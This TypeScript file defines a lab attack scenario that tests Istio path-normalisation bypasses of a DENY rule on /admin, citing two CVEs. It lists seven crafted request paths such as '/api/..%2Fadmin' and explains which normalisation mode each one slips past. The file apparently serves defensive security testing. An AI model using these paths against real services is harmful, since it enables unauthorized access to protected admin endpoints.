import { defineAttack } from '../define-attack.ts';
import { allowed, ambientEnforces, labNote, sidecarEnforces } from '../expectation-builders.ts';
import { apiPathTricksPlan } from '../plans.ts';
import { apiServiceControl } from '../controls.ts';
import { REF } from '../references.ts';
import { frontendImpostor } from '../attackers.ts';
import type { Expectation } from '../../../core/domain/attack.ts';
import type { StackTraits } from '../../../core/domain/profile.ts';
import { pathTrickExpectation } from './path-trick-expectation.ts';

const ID = 'SC10';
const TAG = `path normalisation tricks against a DENY on /admin, fixed in patched versions (403) — ${REF.cve202131920.cite}; ${REF.cve202139156.cite}; ${REF.authorizationPolicy.cite}`;
/**
 * The four classic variants (the CVEs above), plus three that start inside the allowed `/api/*` prefix: the scene's ALLOW on `/api/*`
 * already refuses `//admin` & co. whatever the normalisation, so only these really test the DENY on /admin. The
 * `..` forms resolve to /admin in every mode but NONE; `/api/..%2Fadmin` only where `%2F` is decoded
 * (`DECODE_AND_MERGE_SLASHES`): under Istio's default `BASE` it stays inside /api/* and reaches api, the escaped-slash
 * class of CVE-2021-31920 (https://istio.io/latest/docs/reference/config/security/normalization/).
 */
export const SC10_PATHS = ['//admin', '/%2Fadmin', '/admin#x', '/ADMIN', '/api/../admin', '/api/%2e%2e/admin', '/api/..%2Fadmin'] as const;

const NORMALIZATION_REF = 'https://istio.io/latest/docs/reference/config/security/normalization/';

/** Which variant a mode lets through to api (the scene's ALLOW GET /api/* + DENY /admin, /admin/*). */
function passingVariant(stack: StackTraits): string | undefined {
  switch (stack.pathNormalization) {
    case 'NONE':
      return '/api/../admin (no normalisation: it matches /api/* and not /admin)';
    case 'BASE':
    case 'MERGE_SLASHES':
      return '/api/..%2Fadmin (%2F is not decoded, so it matches /api/* and not /admin)';
    case 'DECODE_AND_MERGE_SLASHES':
      return undefined;
  }
}

function l7Expectation(stack: StackTraits, layer: 'mesh-sidecar' | 'mesh-waypoint'): Expectation {
  return pathTrickExpectation(stack, layer, passingVariant(stack), {
    blocked: (where) => `${TAG}; ${NORMALIZATION_REF}: every variant normalises to /admin or outside /api/*, 403 at ${where}`,
    allowed: (passing, where) => `${TAG}; ${NORMALIZATION_REF}: under ${stack.pathNormalization} ${passing}; reaches api through ${where}`,
  });
}

/**
 * Family: sidecar-bypass — the technique defeats the proxy's L7 authorization (sidecar or waypoint), not an
 * identity or mTLS check, so it sits with the other ways around the proxy.
 */
export const SC10 = defineAttack({
  id: ID,
  family: 'sidecar-bypass',
  title: 'Path tricks against the DENY on /admin',
  technique: `A pod with frontend's identity (the only allowed principal) sends raw request targets ${SC10_PATHS.join(' ')} to api; each variant is reported.`,
  preconditions: ["the attacker holds frontend's identity (a compromised frontend)", 'api has ALLOW GET /api/* for frontend and DENY /admin'],
  references: [REF.cve202131920, REF.cve202139156, REF.authorizationPolicy],
  success: 'client-signal',
  source: TAG,
  attempt: (context) => apiPathTricksPlan(frontendImpostor(context, ID, 'attempt').build(), context, SC10_PATHS),
  // Same pod, a path the policy allows: frontend → api works, so a 403 is the /admin rule.
  control: (context) => apiServiceControl(context, ID),
  expect: (stack) => {
    if (sidecarEnforces(stack)) return l7Expectation(stack, 'mesh-sidecar');
    if (ambientEnforces(stack)) return l7Expectation(stack, 'mesh-waypoint');
    return allowed(`${TAG}; no L7 policy on this stack (the layered set has no Cilium L7 HTTP rule)`, 'documented', labNote(stack, 'the CNI allows frontend → api:8080; the workload answers every path'));
  },
});
